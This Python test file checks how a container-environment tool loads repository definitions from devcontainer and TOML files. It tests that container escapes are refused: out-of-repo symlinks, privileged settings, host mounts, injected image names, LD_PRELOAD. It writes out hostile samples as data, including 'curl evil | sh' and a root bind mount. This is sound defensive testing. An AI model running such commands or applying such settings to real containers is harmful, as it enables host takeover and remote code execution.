"""Environment definitions read from a repository, without Docker: the files, their precedence, what is ignored,
what is refused (paths out of the repository above all), and the content hash."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from controller.environment import buildcontext, definition
from controller.environment.definition import Overrides, definition_hash, load, materials, override, requested
from controller.environment.devcontainer import expand_container_env
from controller.errors import DefinitionError, RepoError, SetupError
from controller.wire.envspec import DEFAULT_SETUP_INPUTS, Environment, EnvironmentRequest, keeping_path
from controller.wire.network import NetworkPolicy, parse

TOML = ".cubicle/environment.toml"
DEVCONTAINER = ".devcontainer/devcontainer.json"
ROOT_DEVCONTAINER = ".devcontainer.json"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("print(1)\n")
    return root


def write(repo: Path, rel: str, text: str) -> Path:
    path = repo / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def refused(repo: Path, *needles: str) -> str:
    with pytest.raises(DefinitionError) as caught:
        load(repo)
    message = str(caught.value)
    for needle in needles:
        assert needle in message, message
    return message


# ----------------------------------------------------------------------------- no definition, precedence


def test_no_definition_is_the_default_environment(repo: Path) -> None:
    env = load(repo)
    assert env == Environment(source="default")
    assert not env.builds and env.setup is None and env.network is None and env.warnings == ()
    assert env.setup_inputs == DEFAULT_SETUP_INPUTS
    assert {"pyproject.toml", "requirements*.txt", "package-lock.json", "go.sum", TOML} <= set(env.setup_inputs)


def test_the_cubicle_file_wins_over_both_devcontainer_files_which_are_named_as_unused(repo: Path) -> None:
    write(repo, TOML, 'image = "from-toml"\n')
    write(repo, DEVCONTAINER, '{"image": "from-devcontainer-dir"}')
    write(repo, ROOT_DEVCONTAINER, '{"image": "from-root-file"}')
    env = load(repo)
    assert (env.source, env.image) == (TOML, "from-toml")
    assert f"{DEVCONTAINER}: not used, {TOML} takes precedence." in env.warnings
    assert f"{ROOT_DEVCONTAINER}: not used, {TOML} takes precedence." in env.warnings


def test_the_devcontainer_directory_wins_over_the_root_file(repo: Path) -> None:
    write(repo, DEVCONTAINER, '{"image": "from-devcontainer-dir"}')
    write(repo, ROOT_DEVCONTAINER, '{"image": "from-root-file"}')
    env = load(repo)
    assert (env.source, env.image) == (DEVCONTAINER, "from-devcontainer-dir")
    assert env.warnings == (f"{ROOT_DEVCONTAINER}: not used, {DEVCONTAINER} takes precedence.",)


def test_the_root_devcontainer_file_alone_is_used(repo: Path) -> None:
    write(repo, ROOT_DEVCONTAINER, '{"build": {"dockerfile": "Dockerfile"}}')
    write(repo, "Dockerfile", "FROM x\n")
    env = load(repo)
    assert (env.source, env.dockerfile, env.context) == (ROOT_DEVCONTAINER, "Dockerfile", ".")


# ----------------------------------------------------------------------------- the Cubicle file


def test_the_cubicle_file_with_every_key(repo: Path) -> None:
    write(repo, "docker/dev.Dockerfile", "FROM x\n")
    write(
        repo,
        TOML,
        """
dockerfile = "docker/dev.Dockerfile"
context = "./docker/.."
target = "dev"
build_args = { PYTHON = "3.12" }
env = { DJANGO_SETTINGS_MODULE = "app.settings" }
setup = "pip install -e '.[dev]'"
setup_timeout_s = 120
setup_network = "allow=pypi.org,files.pythonhosted.org"
setup_inputs = ["pyproject.toml", "requirements/*.txt"]
network = "none"
""",
    )
    env = load(repo)
    assert env.source == TOML and env.warnings == ()
    assert (env.dockerfile, env.context, env.target) == ("docker/dev.Dockerfile", ".", "dev")
    assert env.build_args == {"PYTHON": "3.12"} and env.env == {"DJANGO_SETTINGS_MODULE": "app.settings"}
    assert env.setup == "pip install -e '.[dev]'" and env.setup_timeout_s == 120
    assert env.setup_network == parse("allow=pypi.org,files.pythonhosted.org")
    assert env.setup_inputs == ("pyproject.toml", "requirements/*.txt")
    assert env.network == NetworkPolicy(level="none") and env.builds


@pytest.mark.parametrize(
    ("setup", "expected"),
    [
        ('"make deps"', "make deps"),
        ('["pip", "install", "-e", ".[dev]"]', "pip install -e '.[dev]'"),
        (
            '{ deps = "pip install -r requirements.txt", db = ["sh", "-c", "echo hi"] }',
            "pip install -r requirements.txt && sh -c 'echo hi'",
        ),
        ('{ first = "a; b", second = "c" }', "(\na; b\n) && c"),
        ('"  "', None),
    ],
)
def test_setup_forms_in_the_cubicle_file(repo: Path, setup: str, expected: str | None) -> None:
    write(repo, TOML, f"setup = {setup}\n")
    assert load(repo).setup == expected


@pytest.mark.parametrize(
    ("text", "needles"),
    [
        ('image = "x"\nprivileged = true\n', ["key 'privileged'", "Extra inputs are not permitted"]),
        ("env = { A = 1 }\n", ["key 'env.A'", "string"]),
        ('setup_timeout_s = "10"\n', ["key 'setup_timeout_s'"]),
        ("setup_timeout_s = 999999\n", ["key 'setup_timeout_s'", "less than or equal"]),
        ('network = "everything"\n', ["key 'network'", "none, open or allow"]),
        ('setup_network = "allow=not a host"\n', ["key 'setup_network'"]),
        ('image = "a"\ndockerfile = "Dockerfile"\n', ["either image or dockerfile"]),
        ('image = "bad image\\nRUN evil"\n', ["key 'image'", "not an image reference"]),
        ('dockerfile = "/etc/passwd"\n', ["key 'dockerfile'", "absolute"]),
        ('dockerfile = "../outside/Dockerfile"\n', ["key 'dockerfile'", "out of the repository"]),
        ('image = "x"\ntarget = "a b"\n', ["key 'target'"]),
        ('image = "x"\nbuild_args = { "--network" = "host" }\n', ["key 'build_args'", "not a build argument name"]),
        ('env = { "A=B" = "x" }\n', ["key 'env'", "not a variable name"]),
        ('setup_inputs = ["../secrets"]\n', ["key 'setup_inputs'"]),
        ('image = "x"\nsetup = \n', ["not valid TOML", "line 2"]),
        ("setup = []\n", ["key 'setup'", "must not be empty"]),
    ],
)
def test_an_invalid_cubicle_file_is_an_error_naming_file_and_key(repo: Path, text: str, needles: list[str]) -> None:
    write(repo, TOML, text)
    message = refused(repo, TOML, *needles)
    assert "cubicle env show" in message  # the hint


def test_a_definition_error_is_a_repo_error_with_a_hint() -> None:
    assert issubclass(DefinitionError, RepoError) and DefinitionError.hint


def test_reserved_variables_are_dropped_with_a_warning(repo: Path) -> None:
    write(repo, TOML, 'env = { HOME = "/root", LD_PRELOAD = "/workspace/x.so", OK = "1" }\n')
    env = load(repo)
    assert env.env == {"OK": "1"}
    assert any("'env.LD_PRELOAD' ignored" in w for w in env.warnings)
    assert any("'env.HOME' ignored" in w for w in env.warnings)


# ----------------------------------------------------------------------------- devcontainer.json


def test_jsonc_comments_and_trailing_commas(repo: Path) -> None:
    write(
        repo,
        DEVCONTAINER,
        """// a devcontainer
{
  /* the image */ "image": "python:3.12", // trailing comment
  "containerEnv": { "A": "1", "B": "two", },
  "postCreateCommand": "pip install -e .",
}
""",
    )
    env = load(repo)
    assert (env.image, env.env, env.setup) == ("python:3.12", {"A": "1", "B": "two"}, "pip install -e .")
    assert env.warnings == ()


def test_devcontainer_paths_are_relative_to_the_file(repo: Path) -> None:
    write(repo, ".devcontainer/Dockerfile", "FROM x\n")
    write(
        repo,
        DEVCONTAINER,
        '{"build": {"dockerfile": "Dockerfile", "context": "..", "target": "dev", "args": {"V": "1"}}}',
    )
    env = load(repo)
    assert (env.dockerfile, env.context, env.target, env.build_args) == (
        ".devcontainer/Dockerfile",
        ".",
        "dev",
        {"V": "1"},
    )


def test_devcontainer_context_defaults_to_the_files_directory_and_the_old_keys_work(repo: Path) -> None:
    write(repo, ".devcontainer/Dockerfile", "FROM x\n")
    write(repo, DEVCONTAINER, '{"dockerFile": "Dockerfile"}')
    env = load(repo)
    assert (env.dockerfile, env.context) == (".devcontainer/Dockerfile", ".devcontainer")


def test_lifecycle_commands_become_one_setup_in_order(repo: Path) -> None:
    write(
        repo,
        DEVCONTAINER,
        json.dumps(
            {
                "image": "x",
                "postCreateCommand": {"b": "npm ci", "a": ["echo", "it's"]},
                "onCreateCommand": ["pip", "install", "-e", ".[dev]"],
                "updateContentCommand": "make deps",
                "postStartCommand": "serve",
            }
        ),
    )
    env = load(repo)
    assert env.setup == "pip install -e '.[dev]' && make deps && npm ci && echo 'it'\"'\"'s'"
    assert any("'postStartCommand' ignored" in w for w in env.warnings)


DANGEROUS = {
    "privileged": True,
    "capAdd": ["SYS_ADMIN"],
    "securityOpt": ["seccomp=unconfined"],
    "mounts": ["source=/,target=/host,type=bind"],
    "runArgs": ["--privileged", "--network=host"],
    "init": True,
    "workspaceMount": "source=/,target=/workspace,type=bind",
    "workspaceFolder": "/host",
    "containerUser": "root",
    "remoteUser": "root",
    "forwardPorts": [22],
    "appPort": [22],
    "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}},
    "dockerComposeFile": "compose.yaml",
    "initializeCommand": "curl evil | sh",
    "hostRequirements": {"gpu": True},
}


def test_dangerous_keys_are_never_applied_and_each_is_named_in_a_warning(repo: Path) -> None:
    write(repo, DEVCONTAINER, json.dumps({"image": "x", **DANGEROUS, "build": {"options": ["--network=host"]}}))
    env = load(repo)
    for key in [*DANGEROUS, "build.options"]:
        assert any(w.startswith(f"{DEVCONTAINER}: {key!r} ignored: never applied") for w in env.warnings), key
    assert env.model_dump(exclude={"warnings"}) == Environment(source=DEVCONTAINER, image="x").model_dump(
        exclude={"warnings"}
    )


def test_unknown_keys_and_other_tools_customizations_are_ignored_with_a_warning(repo: Path) -> None:
    write(
        repo,
        DEVCONTAINER,
        '{"name": "n", "$schema": "s", "image": "x", "somethingNew": 1, "build": {"cacheFrom": "y"},'
        ' "customizations": {"vscode": {"extensions": []}}}',
    )
    env = load(repo)
    assert sorted(env.warnings) == sorted(
        [
            f"{DEVCONTAINER}: 'somethingNew' ignored: not a key Cubicle uses.",
            f"{DEVCONTAINER}: 'build.cacheFrom' ignored: not a build key Cubicle uses.",
            f"{DEVCONTAINER}: 'customizations.vscode' ignored: settings of another tool.",
        ]
    )


def test_cubicle_customizations_set_the_network_and_setup_keys(repo: Path) -> None:
    write(
        repo,
        DEVCONTAINER,
        '{"image": "x", "customizations": {"cubicle": {"network": "allow=*.example.org:8443",'
        ' "setup_network": "open", "setup_timeout_s": 60, "setup_inputs": ["uv.lock"]}}}',
    )
    env = load(repo)
    assert env.network == parse("allow=*.example.org:8443") and env.setup_network == NetworkPolicy(level="open")
    assert (env.setup_timeout_s, env.setup_inputs) == (60, ("uv.lock",))


def test_the_host_environment_is_never_read(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CUBICLE_TEST_SECRET", "hunter2")
    write(
        repo,
        DEVCONTAINER,
        '{"image": "x", "containerEnv": {"S": "${localEnv:CUBICLE_TEST_SECRET}", "D": "${localEnv:NOPE:fallback}",'
        ' "W": "${localWorkspaceFolder}/bin"}, "remoteEnv": {"P": "${containerEnv:PATH}:/x", "Q": "${containerEnv:W}/q"},'
        ' "postCreateCommand": "echo ${localEnv:CUBICLE_TEST_SECRET}"}',
    )
    env = load(repo)
    assert "hunter2" not in env.model_dump_json()
    assert env.env == {
        "S": "",
        "D": "fallback",
        "W": "/workspace/bin",
        "Q": "/workspace/bin/q",
        "P": "${containerEnv:PATH}:/x",
    }  # P names a variable only the image knows: made its value when the environment is prepared
    assert env.setup == "echo"
    assert any("${localEnv:CUBICLE_TEST_SECRET} is never read from the host" in w for w in env.warnings)


def test_a_container_variable_only_the_image_knows_waits_for_the_image(repo: Path) -> None:
    """``${containerEnv:NAME}`` in remoteEnv and the lifecycle commands is left for the preparation, which makes it
    the image's value (``expand_container_env``); where it cannot be known (the image's name), it is refused."""
    write(
        repo,
        DEVCONTAINER,
        '{"image": "x", "containerEnv": {"A": "1"}, "remoteEnv": {"PATH": "/opt/venv/bin:${containerEnv:PATH}",'
        ' "B": "${containerEnv:A}-b", "C": "${containerEnv:NOPE:fallback}"},'
        ' "postCreateCommand": ["echo", "${containerEnv:HOME}"]}',
    )
    env = load(repo)
    assert env.env["PATH"] == "/opt/venv/bin:${containerEnv:PATH}" and env.env["B"] == "1-b"
    image = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/root"}
    expanded = expand_container_env(env.env, image, 1000)
    assert expanded == {"A": "1", "PATH": "/opt/venv/bin:/usr/local/bin:/usr/bin:/bin", "B": "1-b", "C": "fallback"}
    assert expand_container_env({"": env.setup or ""}, image, 1000)[""] == "echo '/root'"
    many = {"A": "${containerEnv:PATH}" * 200}  # each reference small, together past the bound: refused unbuilt
    with pytest.raises(SetupError, match="A would be longer than 4,096 characters"):
        expand_container_env(many, image, 4096)
    write(repo, DEVCONTAINER, '{"image": "${containerEnv:IMAGE}"}')
    with pytest.raises(DefinitionError, match=r"containerEnv:IMAGE\} is known only in the running container"):
        load(repo)


def test_the_environments_path_is_set_again_after_the_login_profile() -> None:
    """The setup's command (the toolbox does the same for the agent's, from ``PATH_VARIABLE``)."""
    assert keeping_path("make test", {"PATH": "/opt/venv/bin:/usr/bin"}) == (
        "PATH=/opt/venv/bin:/usr/bin; export PATH; make test"
    )
    assert keeping_path("make test", {"PATH": "/a b:$(x)"}) == "PATH='/a b:$(x)'; export PATH; make test"
    assert keeping_path("make test", {}) == "make test"


@pytest.mark.parametrize(
    ("text", "needles"),
    [
        ('{"image": 5}', ["key 'image'", "expected a string, got a number"]),
        ('{"containerEnv": {"A": 1}}', ["key 'containerEnv.A'", "expected a string"]),
        ('{"containerEnv": {"bad name": "1"}}', ["key 'containerEnv'", "not a variable name"]),
        ('{"build": {"dockerfile": "/etc/Dockerfile"}}', ["key 'build.dockerfile'", "absolute"]),
        ('{"build": {"dockerfile": "../../x"}}', ["key 'build.dockerfile'", "out of the repository"]),
        ('{"build": []}', ["key 'build'", "expected an object"]),
        ('{"postCreateCommand": 3}', ["key 'postCreateCommand'"]),
        ('{"postCreateCommand": {"a": [1]}}', ["key 'postCreateCommand.a'"]),
        ('{"customizations": {"cubicle": {"privileged": true}}}', ["key 'customizations.cubicle.privileged'"]),
        ('{"customizations": {"cubicle": {"network": "wide"}}}', ["key 'customizations.cubicle.network'"]),
        ('{"image": "a",\n "build": {"dockerfile": "D"}}', ["either image or dockerfile"]),
        ('{\n  "image": "x",\n  "containerEnv": }', ["not valid JSON", "line 3"]),
        ("[1, 2]", ["top level must be a JSON object"]),
        ('{"image": "x"}' + "\n" + "[" * 100 + "]" * 100, ["not valid JSON"]),
    ],
)
def test_an_invalid_devcontainer_is_an_error_naming_file_and_key(repo: Path, text: str, needles: list[str]) -> None:
    write(repo, DEVCONTAINER, text)
    refused(repo, DEVCONTAINER, *needles)


def test_a_deeply_nested_devcontainer_is_refused_not_a_crash(repo: Path) -> None:
    write(repo, DEVCONTAINER, '{"customizations": {"x": ' + "[" * 100000 + "]" * 100000 + "}}")
    refused(repo, DEVCONTAINER, "not valid JSON")


# ----------------------------------------------------------------------------- symlinks and odd files


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    path = tmp_path / "outside"
    path.mkdir()
    (path / "devcontainer.json").write_text('{"image": "from-outside"}')
    (path / "environment.toml").write_text('image = "from-outside"\n')
    (path / "Dockerfile").write_text("FROM outside\n")
    (path / "secret.txt").write_text("secret\n")
    return path


def test_a_definition_file_linked_out_of_the_repository_is_refused(repo: Path, outside: Path) -> None:
    (repo / ".cubicle").mkdir()
    (repo / TOML).symlink_to(outside / "environment.toml")
    refused(repo, TOML, "outside the repository")


def test_a_definition_directory_linked_out_of_the_repository_is_refused(repo: Path, outside: Path) -> None:
    (repo / ".devcontainer").symlink_to(outside)
    refused(repo, DEVCONTAINER, "outside the repository")


def test_a_dangling_definition_link_is_refused_not_skipped(repo: Path) -> None:
    (repo / ROOT_DEVCONTAINER).symlink_to("/nonexistent/devcontainer.json")
    refused(repo, ROOT_DEVCONTAINER, "outside the repository")


def test_a_definition_linked_inside_the_repository_is_read(repo: Path) -> None:
    write(repo, "tools/env.json", '{"image": "linked"}')
    (repo / ".devcontainer").mkdir()
    (repo / DEVCONTAINER).symlink_to("../tools/env.json")
    assert load(repo).image == "linked"


def test_a_dockerfile_linked_out_of_the_repository_is_refused(repo: Path, outside: Path) -> None:
    (repo / "Dockerfile").symlink_to(outside / "Dockerfile")
    write(repo, TOML, 'dockerfile = "Dockerfile"\n')
    refused(repo, TOML, "key 'dockerfile'", "outside the repository")


def test_a_dockerfile_under_a_directory_linked_out_is_refused(repo: Path, outside: Path) -> None:
    (repo / "docker").symlink_to(outside)
    write(repo, DEVCONTAINER, '{"build": {"dockerfile": "../docker/Dockerfile"}}')
    refused(repo, DEVCONTAINER, "key 'build.dockerfile'", "outside the repository")


def test_a_build_context_linked_out_of_the_repository_is_refused(repo: Path, outside: Path) -> None:
    (repo / "ctx").symlink_to(outside)
    write(repo, "Dockerfile", "FROM x\n")
    write(repo, TOML, 'dockerfile = "Dockerfile"\ncontext = "ctx"\n')
    refused(repo, TOML, "key 'context'", "outside the repository")


def test_links_inside_a_context_are_kept_as_links_never_followed(repo: Path, outside: Path) -> None:
    write(repo, "Dockerfile", "FROM x\n")
    write(repo, TOML, 'dockerfile = "Dockerfile"\n')
    (repo / "secret").symlink_to(outside / "secret.txt")
    (repo / "hostdir").symlink_to(outside)
    found = materials(load(repo), repo).context
    assert found is not None
    kinds = {e.name: (e.kind, e.target) for e in found.entries}
    assert kinds["secret"] == ("symlink", str(outside / "secret.txt"))
    assert kinds["hostdir"] == ("symlink", str(outside))
    assert not any(name.startswith("hostdir/") for name in kinds)


def test_a_dockerignore_linked_out_of_the_repository_is_refused(repo: Path, outside: Path) -> None:
    write(repo, "Dockerfile", "FROM x\n")
    write(repo, TOML, 'dockerfile = "Dockerfile"\n')
    (repo / ".dockerignore").symlink_to(outside / "secret.txt")
    with pytest.raises(DefinitionError, match=r"\.dockerignore resolves to .*outside the repository"):
        definition_hash(load(repo), repo)


def test_a_fifo_or_directory_as_definition_is_refused_without_blocking(repo: Path) -> None:
    (repo / ".cubicle").mkdir()
    os.mkfifo(repo / TOML)
    refused(repo, TOML, "not a regular file")
    (repo / TOML).unlink()
    (repo / TOML).mkdir()
    refused(repo, TOML, "not a regular file")


def test_a_huge_definition_is_refused(repo: Path) -> None:
    write(repo, DEVCONTAINER, '{"image": "x", "name": "' + "x" * (300 * 1024) + '"}')
    refused(repo, DEVCONTAINER, "at most")


def test_the_repository_must_be_a_directory(tmp_path: Path) -> None:
    with pytest.raises(DefinitionError, match="not a directory"):
        load(tmp_path / "missing")


# ----------------------------------------------------------------------------- the hash


def dockerfile_repo(repo: Path) -> Path:
    write(repo, "Dockerfile", "FROM x\nCOPY . /app\n")
    write(repo, TOML, 'dockerfile = "Dockerfile"\nsetup = "make"\n')
    return repo


def test_the_hash_is_stable_across_runs_and_checkouts(repo: Path, tmp_path: Path) -> None:
    dockerfile_repo(repo)
    first = definition_hash(load(repo), repo)
    assert definition_hash(load(repo), repo) == first and len(first) == 64
    copy = tmp_path / "elsewhere" / "copy"
    shutil.copytree(repo, copy, symlinks=True)
    os.utime(copy / "src" / "app.py", (1, 1))
    assert definition_hash(load(copy), copy) == first


@pytest.mark.parametrize(
    "change",
    [
        lambda r: (r / "src" / "app.py").write_text("print(2)\n"),
        lambda r: (r / "src" / "new.py").write_text(""),
        lambda r: (r / "src" / "app.py").chmod(0o755),
        lambda r: (r / "link").symlink_to("src"),
        lambda r: (r / "src" / "app.py").rename(r / "src" / "moved.py"),
        lambda r: (r / "empty").mkdir(),
        lambda r: (r / "Dockerfile").write_text("FROM y\n"),
        lambda r: (r / TOML).write_text('dockerfile = "Dockerfile"\nsetup = "make"\nbuild_args = { A = "1" }\n'),
        lambda r: (r / TOML).write_text('dockerfile = "Dockerfile"\nsetup = "make"\ntarget = "t"\n'),
    ],
)
def test_the_hash_changes_with_what_the_image_is_built_from(repo: Path, change: object) -> None:
    dockerfile_repo(repo)
    before = materials(load(repo), repo)
    change(repo)  # type: ignore[operator]
    after = materials(load(repo), repo)
    assert after.definition_hash != before.definition_hash
    assert after.build_hash != before.build_hash


def test_setup_env_and_network_change_the_definition_hash_but_not_what_the_image_is_built_from(repo: Path) -> None:
    dockerfile_repo(repo)
    before = materials(load(repo), repo)
    for text in ('setup = "make all"', 'env = { A = "1" }', 'network = "open"', "setup_timeout_s = 5"):
        write(repo, TOML, f'dockerfile = "Dockerfile"\n{text}\n')
        after = materials(load(repo), repo)
        assert after.definition_hash != before.definition_hash, text
        assert after.build_hash == before.build_hash, text


def test_git_and_dockerignored_files_do_not_change_the_hash(repo: Path) -> None:
    dockerfile_repo(repo)
    write(repo, ".dockerignore", "# build output\nbuild\n*.log\n!keep.log\n")
    (repo / ".git").mkdir()
    before = definition_hash(load(repo), repo)
    write(repo, ".git/HEAD", "ref: refs/heads/other\n")
    write(repo, "build/out.bin", "x")
    write(repo, "debug.log", "x")
    write(repo, "src/.git", "gitdir: elsewhere\n")
    assert definition_hash(load(repo), repo) == before
    write(repo, "keep.log", "x")
    assert definition_hash(load(repo), repo) != before


def test_an_image_definition_reads_no_context(repo: Path) -> None:
    write(repo, TOML, 'image = "python:3.12"\n')
    found = materials(load(repo), repo)
    assert found.context is None and found.dockerfile is None
    before = found.definition_hash
    write(repo, "src/app.py", "changed\n")
    assert definition_hash(load(repo), repo) == before


def test_odd_names_and_special_files_in_the_context(repo: Path) -> None:
    dockerfile_repo(repo)
    os.mkfifo(repo / "fifo")
    odd = os.fsencode(repo) + b"/latin1-\xe9"
    with open(odd, "wb") as f:
        f.write(b"x")
    write(repo, "new\nline", "x")
    found = materials(load(repo), repo).context
    assert found is not None
    names = [e.name for e in found.entries]
    assert "fifo" not in names and "new\nline" in names
    assert "latin1-\udce9" in names
    assert definition_hash(load(repo), repo) == definition_hash(load(repo), repo)


def test_a_context_over_the_limit_is_refused(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    dockerfile_repo(repo)
    write(repo, "data.bin", "x" * 5000)
    monkeypatch.setattr(buildcontext, "MAX_CONTEXT_BYTES", 4096)
    with pytest.raises(DefinitionError, match="more than 0 MiB") as caught:
        definition_hash(load(repo), repo)
    assert ".dockerignore" in str(caught.value)
    monkeypatch.setattr(buildcontext, "MAX_CONTEXT_BYTES", 1 << 20)
    monkeypatch.setattr(buildcontext, "MAX_CONTEXT_ENTRIES", 3)
    with pytest.raises(DefinitionError, match="more than 3 entries"):
        definition_hash(load(repo), repo)


def test_a_file_replaced_between_listing_and_reading_is_refused(repo: Path) -> None:
    dockerfile_repo(repo)
    found = materials(load(repo), repo).context
    assert found is not None
    (repo / "src" / "new.py").write_text("print(1)\n")
    (repo / "src" / "new.py").rename(repo / "src" / "app.py")  # same size and contents, another inode
    with pytest.raises(DefinitionError, match="changed while it was read"):
        buildcontext.digest(found)


# ----------------------------------------------------------------------------- overrides and the request


def test_override_replaces_and_marks_the_source_as_request(repo: Path) -> None:
    dockerfile_repo(repo)
    env = load(repo)
    assert override(env, Overrides()) is env
    swapped = override(env, Overrides(image="python:3.12", setup="", network="open", variables={"A": "1"}))
    assert (swapped.source, swapped.image, swapped.dockerfile, swapped.setup) == ("request", "python:3.12", None, None)
    assert swapped.network == NetworkPolicy(level="open") and swapped.env == {"A": "1"}
    back = override(swapped, Overrides(dockerfile="Dockerfile", context=".", target="dev"))
    assert (back.image, back.dockerfile, back.target) == (None, "Dockerfile", "dev")


@pytest.mark.parametrize(
    ("kwargs", "needle"),
    [
        ({"image": "x y"}, "key 'image'"),
        ({"dockerfile": "/abs"}, "key 'dockerfile'"),
        ({"network": "sideways"}, "key 'network'"),
        ({"variables": {"LD_PRELOAD": "x"}}, "key 'env'"),
        ({"setup_timeout_s": 0}, "key 'setup_timeout_s'"),
    ],
)
def test_an_invalid_override_names_the_field(kwargs: dict[str, object], needle: str) -> None:
    with pytest.raises(DefinitionError, match=needle):
        override(Environment(), Overrides(**kwargs))  # type: ignore[arg-type]


def test_the_request_model_forbids_unknown_fields_and_applies_over_the_definition(repo: Path) -> None:
    with pytest.raises(ValueError, match="privileged"):
        EnvironmentRequest.model_validate({"privileged": True})
    dockerfile_repo(repo)
    env = load(repo)
    request = EnvironmentRequest.model_validate({"setup": ["pip", "install", "-e", ".[dev]"], "network": "allow=a.org"})
    applied = requested(request, env)
    assert applied.dockerfile == "Dockerfile" and applied.setup == "pip install -e '.[dev]'"
    assert applied.network == parse("allow=a.org") and applied.source == "request"
    plain = requested(EnvironmentRequest(ignore_repository=True), env)
    assert not plain.builds and plain.setup is None and plain.source == "request"


def test_every_request_field_is_documented() -> None:
    for name, field in EnvironmentRequest.model_fields.items():
        assert field.description, name
    for name, field in Environment.model_fields.items():
        assert field.description, name


def test_the_module_documents_every_cubicle_file_key() -> None:
    assert definition.__doc__ is not None
    for key in definition.CubicleFile.model_fields:
        assert f"\n    {key} = " in definition.__doc__, key


# ----------------------------------------------------------------------------- the setup's inputs


def test_the_default_inputs_are_the_roots_manifests_and_the_definition(repo: Path) -> None:
    for rel in ("pyproject.toml", "requirements-dev.txt", "package-lock.json", "sub/pyproject.toml", ".git/HEAD"):
        write(repo, rel, "x\n")
    write(repo, TOML, 'setup = "make"\n')
    env = load(repo)
    assert definition.setup_input_files(env, repo) == [
        TOML,
        "package-lock.json",
        "pyproject.toml",
        "requirements-dev.txt",
    ]


def test_input_globs_reach_into_directories_only_as_far_as_asked(repo: Path, tmp_path: Path) -> None:
    for rel in (
        "a/package.json",
        "a/b/package.json",
        "package.json",
        "backend/requirements.txt",
        "other/requirements.txt",
    ):
        write(repo, rel, "x\n")
    (repo / "linked.txt").symlink_to(tmp_path)
    env = override(Environment(), Overrides(setup_inputs=["**/package.json", "backend/*.txt", "linked.txt"]))
    assert definition.setup_input_files(env, repo) == [
        "a/b/package.json",
        "a/package.json",
        "backend/requirements.txt",
        "linked.txt",
        "package.json",
    ]


def test_the_inputs_hash_follows_the_inputs_only(repo: Path, tmp_path: Path) -> None:
    write(repo, "pyproject.toml", "[project]\n")
    env = load(repo)
    first = definition.setup_inputs_hash(env, repo)
    write(repo, "src/other.py", "x\n")
    assert definition.setup_inputs_hash(env, repo) == first
    write(repo, "requirements.txt", "pytest\n")
    second = definition.setup_inputs_hash(env, repo)
    assert second != first
    (repo / "requirements.txt").unlink()
    (repo / "requirements.txt").symlink_to(tmp_path / "elsewhere.txt")  # never followed: only the link is hashed
    assert definition.setup_inputs_hash(env, repo) not in (first, second)


def test_an_unbounded_inputs_walk_is_refused(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for n in range(20):
        write(repo, f"d{n}/x.txt", "x")
    monkeypatch.setattr(definition, "MAX_INPUT_SCAN", 10)
    env = override(Environment(), Overrides(setup_inputs=["**/package.json"]))
    with pytest.raises(DefinitionError, match="more than 10 entries"):
        definition.setup_input_files(env, repo)


def test_every_symlink_on_the_way_to_a_definition_file_is_trusted(repo: Path) -> None:
    """Retargeting ``build`` (a link the Dockerfile's path passes through) rewrites the Dockerfile as surely as an
    edit of it: the links count among the files the definition reads (red-team finding)."""
    write(repo, "docker/dev.Dockerfile", "FROM debian\n")
    write(repo, "docker/v2.Dockerfile", "FROM debian\n")
    os.symlink("v2.Dockerfile", repo / "docker" / "current")
    os.symlink("docker", repo / "build")
    os.symlink("build/current", repo / "Dockerfile.link")
    write(repo, "config/cubicle/environment.toml", 'dockerfile = "Dockerfile.link"\n')
    os.symlink("config", repo / "cfg")
    os.symlink("cfg/cubicle", repo / ".cubicle")
    trusted = set(definition.trusted_paths(load(repo), repo))
    assert {".cubicle/environment.toml", ".cubicle", "cfg", "config/cubicle/environment.toml"} <= trusted
    assert {"Dockerfile.link", "build", "docker/current", "docker/v2.Dockerfile"} <= trusted
    assert "docker/dev.Dockerfile" not in trusted and "src/app.py" not in trusted


def test_the_links_trusted_are_those_the_definition_is_read_through_however_long_or_broken(repo: Path) -> None:
    """``resolve`` reads through ``os.path.realpath``: a missing component taken as written, as many links as the
    kernel allows (more are refused). Every link it passes is trusted, so that none can be retargeted unnamed
    (red-team findings)."""
    write(repo, "docker/Dockerfile", "FROM debian\n")
    os.symlink("docker", repo / "c40")
    for n in range(40):
        os.symlink(f"c{n + 1}", repo / f"c{n}")
    os.symlink("nowhere/../x", repo / "a")
    os.symlink("docker", repo / "x")
    for name, path in (("long", "c1/Dockerfile"), ("broken", "a/Dockerfile")):
        write(repo, TOML, f'dockerfile = "{path}"\n')
        env = load(repo)
        assert materials(env, repo).dockerfile == "FROM debian\n", name
        trusted = set(definition.trusted_paths(env, repo))
        chain = {f"c{n}" for n in range(1, 41)} if name == "long" else {"a", "x"}
        assert chain <= trusted, (name, chain - trusted)
    write(repo, TOML, 'dockerfile = "c0/Dockerfile"\n')  # 41 links
    with pytest.raises(DefinitionError, match="more than 40 symbolic links"):
        materials(load(repo), repo)
